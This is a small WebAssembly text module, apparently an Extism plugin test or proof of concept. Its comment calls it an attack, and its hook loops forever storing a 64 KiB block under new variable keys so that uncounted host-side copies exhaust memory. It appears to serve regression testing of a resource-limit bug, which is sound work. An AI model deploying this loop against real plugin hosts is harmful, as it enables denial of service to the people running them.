;; Attack: stores one 64 KiB block as an Extism variable under ever new keys;
;; every var_set made the host keep a copy that was never counted.
(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u64" (func $store_u64 (param i64 i64)))
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (memory (export "memory") 1)
  (func (export "hook") (result i32)
    (local $value i64) (local $key i64) (local $n i64)
    (local.set $value (call $alloc (i64.const 65536)))
    (local.set $key (call $alloc (i64.const 8)))
    (loop $more
      (call $store_u64 (local.get $key) (local.get $n))
      (call $var_set (local.get $key) (local.get $value))
      (local.set $n (i64.add (local.get $n) (i64.const 1)))
      (br $more))
    (i32.const 0)))
